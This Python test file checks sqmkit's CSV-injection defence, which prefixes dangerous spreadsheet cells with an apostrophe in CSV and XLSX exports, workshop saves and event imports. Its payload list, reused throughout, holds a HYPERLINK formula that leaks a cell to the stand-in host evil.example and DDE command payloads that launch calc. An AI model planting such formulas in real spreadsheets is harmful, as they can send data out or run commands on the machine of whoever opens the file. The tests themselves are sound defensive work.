"""Exports that cannot run (issue 18, item 1): the CSV-injection rule of sqmkit.formulas everywhere sqmkit
writes a spreadsheet — the report's tables/*.csv and tables.xlsx, workshop saves, import-events.

Source of the rule: OWASP Foundation, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection
(cells beginning with ``=`` ``+`` ``-`` ``@``, tab 0x09 or carriage return 0x0D are prefixed with a single
quote). The payloads are those of the issue's bad-input corpus.
"""
from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from sqmkit import formulas, io, report
from sqmkit.events import EventMapping, import_events
from conftest import make_workbook


HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'
DDE = "=cmd|' /C calc'!A0"
PAYLOADS = [HYPERLINK, DDE, "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "=1+1", "+1+1", "-1+1", "-2-3", "@x", "\tabc", "\r=1+1", "\t=1", "-", "--", "+", "=", "-5x"]
PLAIN_NUMBERS = ["-5", "+3.2", "1e5", "-1e-05", "+1E+20", "-0.5", "-.5", "-1,234.5", "-12%", "-5,3", "0", "42"]
HARMLESS = ["cmd|' /C calc'!A0", "华南组", "a=b", " =1", "", "'=already", "5-3", "2025-06-30", "1e5+"]


def dangerous_cells(folder: Path) -> list[str]:
    """Every cell of every CSV and XLSX under ``folder`` that a spreadsheet could run, and every formula cell."""
    found = []
    for path in sorted(folder.rglob("*.csv")):
        with path.open(encoding="utf-8-sig", newline="") as handle:
            for r, row in enumerate(csv.reader(handle), start=1):
                found += [f"{path.name}:{r}: {cell!r}" for cell in row if formulas.is_dangerous(cell)]
    for path in sorted(folder.rglob("*.xlsx")):
        for sheet in openpyxl.load_workbook(path).worksheets:
            for row in sheet.iter_rows():
                found += [f"{path.name}!{sheet.title}!{c.coordinate}: {c.data_type} {c.value!r}" for c in row
                          if c.data_type == "f" or formulas.is_dangerous(c.value)]
    return found


def all_texts(folder: Path) -> str:
    texts = [p.read_text(encoding="utf-8-sig") for p in folder.rglob("*.csv")]
    for path in folder.rglob("*.xlsx"):
        for sheet in openpyxl.load_workbook(path).worksheets:
            texts += [str(v) for row in sheet.iter_rows(values_only=True) for v in row if v is not None]
    return "\n".join(texts)


# --------------------------------------------------------------------------------------------
# The rule
# --------------------------------------------------------------------------------------------
@pytest.mark.parametrize("value", PAYLOADS)
def test_text_a_spreadsheet_could_run_gets_a_leading_apostrophe(value):
    assert formulas.is_dangerous(value)
    assert formulas.neutralise(value) == "'" + value
    assert formulas.neutralise(formulas.neutralise(value)) == "'" + value  # idempotent: one apostrophe, not two


@pytest.mark.parametrize("value", PLAIN_NUMBERS + HARMLESS)
def test_plain_numbers_and_other_text_stay_as_they_are(value):
    assert formulas.neutralise(value) == value


@pytest.mark.parametrize("value", [-5, 3.2, 1e5, None, float("nan"), pd.Timestamp("2025-01-01"), True])
def test_values_that_are_not_text_are_returned_unchanged(value):
    assert formulas.neutralise(value) is value


def test_every_trigger_of_the_owasp_list():
    assert formulas.TRIGGERS == ("=", "+", "-", "@", "\t", "\r")


def test_neutralise_frame_cells_and_column_names_numbers_stay_numbers():
    data = pd.DataFrame({"team": [HYPERLINK, "华南组", None], "n": [-5, 3, 1], "x": [-1.5, 2.0, None],
                         "code": pd.array(["-5", "@a", pd.NA], dtype="string"),
                         "cat": pd.Categorical(["=a", "b", "=a"]), HYPERLINK: ["+1", "+1+1", "-"]})
    out = formulas.neutralise_frame(data)
    assert out["team"].tolist()[:2] == ["'" + HYPERLINK, "华南组"] and pd.isna(out["team"].iloc[2])
    assert out["n"].tolist() == [-5, 3, 1] and out["n"].dtype == data["n"].dtype
    assert out["x"].dtype == data["x"].dtype
    assert out["code"].tolist()[:2] == ["-5", "'@a"] and out["cat"].tolist() == ["'=a", "b", "'=a"]
    assert list(out.columns) == ["team", "n", "x", "code", "cat", "'" + HYPERLINK]
    assert out["'" + HYPERLINK].tolist() == ["+1", "'+1+1", "'-"]
    assert data["team"].iloc[0] == HYPERLINK and list(data.columns)[-1] == HYPERLINK  # the input is not changed
    wide = pd.DataFrame([[1, 2]], columns=pd.MultiIndex.from_tuples([("=a", "x"), ("b", "@y")]))
    assert list(formulas.neutralise_frame(wide).columns) == [("'=a", "x"), ("b", "'@y")]
    duplicated = pd.DataFrame({"a": ["=1", "ok"]}, index=[7, 7])
    assert formulas.neutralise_frame(duplicated)["a"].tolist() == ["'=1", "ok"]


# --------------------------------------------------------------------------------------------
# The report's exports
# --------------------------------------------------------------------------------------------
def test_recorder_csv_and_tables_xlsx_hold_values_only(tmp_path):
    rec = report.Recorder(tmp_path, notebook="03_root_cause")
    frame = pd.DataFrame({"category": PAYLOADS + PLAIN_NUMBERS + HARMLESS,
                          "n": range(len(PAYLOADS + PLAIN_NUMBERS + HARMLESS))})
    rec.table("pareto", frame)
    rec.table("by_team", pd.DataFrame({DDE: [1], "team": ["@ops"], "delta": [-3.5]}))
    assert rec.tables["pareto"] is frame                               # the notebook keeps its own frame
    with (tmp_path / "tables" / "03_root_cause__pareto.csv").open(encoding="utf-8-sig", newline="") as handle:
        cells = [row[0] for row in csv.reader(handle)][1:]
    assert cells == [formulas.neutralise(v) for v in PAYLOADS + PLAIN_NUMBERS + HARMLESS]
    assert cells[0] == "'" + HYPERLINK and "-5" in cells and "'\tabc" in cells
    xlsx = report.export_tables(tmp_path)
    assert dangerous_cells(tmp_path) == []
    book = openpyxl.load_workbook(xlsx)
    sheet = book["03_root_cause_pareto"]
    assert sheet["A2"].value == "'" + HYPERLINK and sheet["A2"].data_type == "s"
    texts = [r[0].value for r in sheet.iter_rows(min_row=2)]
    assert "-5" in texts and "+3.2" in texts and "1e5" in texts       # plain numbers in a text column: no apostrophe
    assert {r[1].data_type for r in sheet.iter_rows(min_row=2)} == {"n"}  # a numeric column stays numbers
    team = book["03_root_cause_by_team"]
    assert [c.value for c in team[1]] == ["'" + DDE, "team", "delta"] and team["B2"].value == "'@ops"
    assert team["C2"].value == -3.5 and team["C2"].data_type == "n"


def test_tables_carried_over_from_an_older_report_are_neutralised_in_the_xlsx(tmp_path):
    (tmp_path / "tables").mkdir()
    old = pd.DataFrame({"team": [HYPERLINK, DDE], "n": [3, -4]})                # as sqmkit 0.1 wrote it
    old.to_csv(tmp_path / "tables" / "02_service_kpis__cascade.csv", index=False, encoding="utf-8-sig")
    report.export_tables(tmp_path)
    sheet = openpyxl.load_workbook(tmp_path / "tables.xlsx")["02_service_kpis_cascade"]
    assert [c.value for c in sheet["A"]] == ["team", "'" + HYPERLINK, "'" + DDE]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row) and sheet["B3"].value == -4


def test_a_real_run_with_payloads_in_the_data_writes_no_cell_that_can_run(small_workbook, tmp_path):
    from sqmkit.runner import run_workbook

    tickets_path = small_workbook / "data" / "tickets.csv"
    tickets = pd.read_csv(tickets_path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    teams = [HYPERLINK, DDE, "@SUM(1+1)*cmd|' /C calc'!A0", "+团队", "-团队"]
    tickets["team"] = [teams[i % len(teams)] for i in range(len(tickets))]
    tickets["channel"] = ["-电话" if i % 2 else "=在线" for i in range(len(tickets))]
    tickets.to_csv(tickets_path, index=False, encoding="utf-8-sig")
    complaints_path = small_workbook / "data" / "complaints.csv"
    complaints = pd.read_csv(complaints_path, dtype=str, keep_default_na=False, encoding="gbk")
    complaints["类别"] = [(HYPERLINK, "@类别", "-账单", "账单")[i % 4] for i in range(len(complaints))]
    complaints.to_csv(complaints_path, index=False, encoding="gbk")
    out = tmp_path / "out"
    summary = run_workbook(small_workbook, out=out, only=["02_service_kpis", "03_root_cause"], jobs=2, progress=False)
    assert [nb.status for nb in summary.notebooks] == ["ok", "ok"], [(nb.ename, nb.evalue) for nb in summary.notebooks]
    assert (out / "tables.xlsx").is_file() and len(list((out / "tables").glob("*.csv"))) > 5
    assert dangerous_cells(out) == []
    texts = all_texts(out)
    assert "'" + HYPERLINK in texts and "'" + DDE in texts and "'@类别" in texts  # the payloads reached the exports


# --------------------------------------------------------------------------------------------
# Workshop saves (sqmkit.writeback) and import-events
# --------------------------------------------------------------------------------------------
CAUSES = ("问题编号,原因编号,类别,原因,上级原因,票数,已验证,证据\r\n"
          "P01,F01,人,新员工多,,5,是,=SUM(A1)\r\n"            # the client's own text, never edited
          "P01,F02,人,培训不足,F01,3,否,-\r\n"
          "P01,F03,法,流程复杂,,2,否,@备注\r\n")


def add_row(frame: pd.DataFrame, **values) -> pd.DataFrame:
    out = pd.concat([frame, pd.DataFrame([values], index=[frame.index.max() + 1])])
    out.attrs = frame.attrs
    return out


def test_a_workshop_save_neutralises_only_the_cells_typed_or_changed(tmp_path):
    folder = make_workbook(tmp_path, {"causes.csv": CAUSES.encode("gbk")})
    causes = io.load_workbook(folder).get("causes")
    causes.loc[2, "cause"] = HYPERLINK                                 # F03 edited; its evidence '@备注' was not
    edited = add_row(causes, problem_id="P01", cause_id="F04", category="机", cause=DDE, parent_id=None,
                     votes=4.0, verified=True, evidence="-5")
    io.write_table(folder, "causes", edited)
    lines = (folder / "data" / "causes.csv").read_bytes().decode("gbk").split("\r\n")
    assert lines[:3] == CAUSES.split("\r\n")[:3]                       # untouched rows: the client's exact text
    assert lines[3] == 'P01,F03,法,"\'=HYPERLINK(""http://evil.example/?leak=""&A2,""x"")",,2,否,@备注'
    assert lines[4] == "P01,F04,机,'=cmd|' /C calc'!A0,,4,是,-5"      # a plain number stays a number
    again = io.load_workbook(folder).get("causes")                    # a faithful save still reads back valid
    assert again["cause"].tolist()[2:] == ["'" + HYPERLINK, "'" + DDE]
    assert again["evidence"].tolist()[0] == "=SUM(A1)" and pd.isna(again["evidence"].iloc[1])
    io.write_table(folder, "causes", edited)                          # saving the editor's frame again: stable
    assert (folder / "data" / "causes.csv").read_bytes().decode("gbk").split("\r\n")[3:5] == lines[3:5]


def test_a_blank_written_in_the_columns_own_spelling_is_not_neutralised(tmp_path):
    folder = make_workbook(tmp_path, {"causes.csv": CAUSES.encode("gbk")})
    causes = io.load_workbook(folder).get("causes")
    edited = add_row(causes, problem_id="P01", cause_id="F04", category="机", cause="@系统", evidence=None)
    io.write_table(folder, "causes", edited)
    last = (folder / "data" / "causes.csv").read_bytes().decode("gbk").split("\r\n")[4]
    assert last.startswith("P01,F04,机,'@系统,") and last.endswith(",-")  # blank evidence as the column spells it
    assert pd.isna(io.load_workbook(folder).get("causes")["evidence"].iloc[3])


def test_an_xlsx_save_writes_string_cells_never_formulas(tmp_path):
    folder = make_workbook(tmp_path, {})
    path = folder / "data" / "complaints.xlsx"
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "complaints"
    sheet.append(["投诉编号", "日期", "类别", "渠道"])
    sheet.append(["R1", pd.Timestamp("2025-01-05").to_pydatetime(), "账单", "电话"])
    sheet.append(["R2", pd.Timestamp("2025-01-06").to_pydatetime(), "网络", "电话"])
    sheet["D3"].data_type = "s"
    sheet["D3"].value = "=在线"                                         # the client's text cell starting with '='
    sheet["D3"].data_type = "s"
    book.save(path)
    table = io.load_workbook(folder).get("complaints")
    table.loc[1, "category"] = "@网络"                                 # R2 edited; its channel '=在线' was not
    edited = add_row(table, record_id="R3", date=pd.Timestamp("2025-01-07"), category=HYPERLINK, channel=DDE)
    io.write_table(folder, "complaints", edited)
    saved = openpyxl.load_workbook(path)["complaints"]
    assert [c.value for c in saved[2]][2:] == ["账单", "电话"]
    assert saved["C3"].value == "'@网络" and saved["D3"].value == "=在线" and saved["D3"].data_type == "s"
    assert saved["C4"].value == "'" + HYPERLINK and saved["D4"].value == "'" + DDE
    assert all(c.data_type != "f" for row in saved.iter_rows() for c in row)
    assert io.load_workbook(folder).get("complaints")["category"].tolist() == ["账单", "'@网络", "'" + HYPERLINK]


def test_import_events_writes_a_tickets_table_that_cannot_run(tmp_path):
    mapping = EventMapping(case="case", activity="activity", timestamp="time", resource="who",
                           first_response=("respond",), resolution=("resolve",),
                           attributes={"team": "team", "channel": "channel", "category": "category"})
    rows = []
    for k, (team, channel) in enumerate([(HYPERLINK, DDE), ("+L1", "@web"), ("-L2", "电话"), ("L3", "-5")]):
        rows += [(f"=C{k}", "new", f"2025-01-0{k + 1} 08:00", "x", team, channel, "\tbilling"),
                 (f"=C{k}", "respond", f"2025-01-0{k + 1} 08:30", "ann", team, channel, "\tbilling"),
                 (f"=C{k}", "resolve", f"2025-01-0{k + 1} 10:00", "ann", team, channel, "\tbilling")]
    log = pd.DataFrame(rows, columns=["case", "activity", "time", "who", "team", "channel", "category"])
    log.to_csv(tmp_path / "log.csv", index=False, encoding="utf-8-sig")
    result = import_events(tmp_path / "log.csv", tmp_path / "wb", mapping, lang="en")
    assert dangerous_cells(tmp_path / "wb") == []
    tickets = io.read_table(result.path, "tickets")
    assert tickets["team"].tolist() == ["'" + HYPERLINK, "'+L1", "'-L2", "L3"]
    assert tickets["channel"].tolist() == ["'" + DDE, "'@web", "电话", "-5"]
    assert tickets["ticket_id"].tolist() == ["'=C0", "'=C1", "'=C2", "'=C3"]


def test_the_templates_of_sqmkit_new_hold_no_cell_that_can_run(tmp_path):
    for lang in ("zh", "en"):
        folder = report.scaffold_workbook(tmp_path / lang, lang=lang)
        assert dangerous_cells(folder) == []
